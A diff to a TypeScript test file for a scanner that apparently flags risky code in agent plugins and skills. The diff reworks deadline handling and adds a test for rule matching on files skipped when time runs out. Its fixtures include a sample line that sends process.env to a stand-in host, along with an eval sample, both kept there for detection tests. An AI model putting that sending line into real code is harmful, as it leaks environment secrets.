@@ -16,7 +16,11 @@ const EVAL = 'eval(1)\n';
 const SENDS = 'fetch("https://host.invalid/", { body: JSON.stringify(process.env) });\n';
 const PLUGIN = '.openclaw/extensions/demo';
 
-async function scan({ home, state }: Laid, ms = 20_000, generation: Generation = '2026.2') {
+async function scan(
+  { home, state }: Laid,
+  deadline = createDeadline(20_000),
+  generation: Generation = '2026.2',
+) {
   const unmeasured: Unmeasured[] = [];
   const run: Collecting = {
     target: {
@@ -31,7 +35,7 @@ async function scan({ home, state }: Laid, ms = 20_000, generation: Generation =
     platform: 'linux',
     uid: 0,
     generation,
-    deadline: createDeadline(ms),
+    deadline,
     skip: (entry) => unmeasured.push(entry),
   };
   const code = measured(
@@ -119,9 +123,24 @@ test('the reference stops after 500 files and at large ones; what code does is r
 });
 
 test('when time is up, what is left out is said once', async () => {
-  const { code, unmeasured } = await scan(plugin([{ path: 'a.js', content: EVAL }]), 0);
+  const { code, unmeasured } = await scan(
+    plugin([{ path: 'a.js', content: EVAL }]),
+    createDeadline(0),
+  );
   expect(code[0]?.files).toBe(0);
   expect(unmeasured.filter(({ reason }) => reason === 'deadline').length).toBeGreaterThan(0);
+});
+
+test('what there was no time to follow is matched with the rules of the reference all the same', async () => {
+  const laid = plugin([{ path: 'a.js', content: EVAL }]);
+  const soon = { left: () => 0, expired: () => false };
+  const { code, unmeasured } = await scan(laid, soon);
+  expect(code.map(({ hits }) => hits.map(({ rule }) => rule))).toEqual([
+    ['dynamic-code-execution'],
+  ]);
+  expect(unmeasured).toMatchObject([
+    { reason: 'deadline', subject: expect.stringContaining('a.js') },
+  ]);
 });
 
 test('skills: the highest place wins a name, the others and those undescribed are marked', async () => {
@@ -177,7 +196,7 @@ test('later releases look for skills in folders of folders, and read SKILL.md', 
       described(`${root}/large`, 'x'.repeat(256_000)),
     ],
   });
-  const { code } = await scan(laid, 20_000, '2026.9');
+  const { code } = await scan(laid, undefined, '2026.9');
   const seen = code.map(({ path, only }) => [path.slice(join(laid.home, root).length + 1), only]);
   expect(seen.sort()).toEqual([
     ['a/b/c/d/e/f/seven', 'default'],
@@ -196,7 +215,7 @@ test('later releases look for skills in folders of folders, and read SKILL.md', 
 test('of one place, later releases load 200 skills', async () => {
   const many = Array.from({ length: 203 }, (_, i) => `s${String(i).padStart(3, '0')}`);
   const laid = lay({ files: many.map((name) => described(`.openclaw/skills/${name}`)) });
-  const { code } = await scan(laid, 60_000, '2026.9');
+  const { code } = await scan(laid, createDeadline(60_000), '2026.9');
   expect(code.filter(({ only }) => only === 'default').map(({ name }) => name)).toEqual(
     many.slice(200),
   );
@@ -204,7 +223,7 @@ test('of one place, later releases load 200 skills', async () => {
 
 test('a place that is a skill itself is that one alone, in later releases', async () => {
   const laid = lay({ files: [described('.agents/skills'), described('.agents/skills/sub')] });
-  const { code } = await scan(laid, 20_000, '2026.9');
+  const { code } = await scan(laid, undefined, '2026.9');
   expect(code.map(({ name }) => name)).toEqual(['skills']);
 });
 
@@ -215,7 +234,7 @@ test('later releases pass by links and what is put aside', async () => {
     { path: '../demo.bak/a.js', content: EVAL },
     { path: '../../../else.js', content: EVAL },
   ]);
-  const { code } = await scan(laid, 20_000, '2026.9');
+  const { code } = await scan(laid, undefined, '2026.9');
   expect(code).toMatchObject([{ name: 'demo', files: 0, hits: [] }]);
   expect(code[0]?.failed).toBeUndefined();
 });
